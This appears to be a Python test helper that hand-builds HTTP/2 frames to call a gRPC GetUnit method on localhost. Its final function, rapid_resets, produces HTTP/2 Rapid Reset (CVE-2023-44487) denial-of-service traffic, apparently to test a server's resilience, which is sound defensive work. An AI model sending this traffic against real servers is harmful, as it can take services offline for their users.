"""HTTP/2 by hand, for what no library sends: RFC 9113, section 4, and RFC 7541, section 6.2.2."""

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET_STREAM, SETTINGS, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 8, 9
END_STREAM, END_HEADERS = 1, 4

GET_UNIT = "/zhaolian.v1.UnitService/GetUnit"
BUREAU = b"\x0a\x0cunits/bureau"  # GetUnitRequest{name: "units/bureau"}, and how its answer begins
_CANCEL = b"\0\0\0\x08"


def frame(kind, flags, stream, payload=b""):
    return (len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big")
            + payload)


def whole_frames(received):
    """Kind and flags of each frame that has come whole, and the bytes that are left."""
    frames = []
    while len(received) >= 9 + (size := int.from_bytes(received[:3], "big")):
        frames.append((received[3], received[4]))
        received = received[9 + size:]
    return frames, received


def literal(name, value):
    """A header that is not indexed; both texts are shorter than 127 bytes."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def headers_of(*pairs):
    return b"".join(literal(name, value) for name, value in pairs)


def start():
    """What a client says first, its settings as they come."""
    return PREFACE + frame(SETTINGS, 0, 0)


def get_unit(stream, scheme=b"http"):
    """A whole call of GetUnit."""
    return (frame(HEADERS, END_HEADERS, stream, get_unit_headers(scheme))
            + frame(DATA, END_STREAM, stream, b"\0\0\0\0" + bytes([len(BUREAU)]) + BUREAU))


def get_unit_headers(scheme=b"http"):
    return headers_of(
        (b":method", b"POST"), (b":scheme", scheme), (b":path", GET_UNIT.encode()),
        (b":authority", b"localhost"), (b"te", b"trailers"),
        (b"content-type", b"application/grpc"))


def rapid_resets(first_stream, count, scheme=b"http"):
    """Calls that are given up as soon as they are made (CVE-2023-44487)."""
    return b"".join(get_unit(stream, scheme) + frame(RESET_STREAM, 0, stream, _CANCEL)
                    for stream in range(first_stream, first_stream + 2 * count, 2))
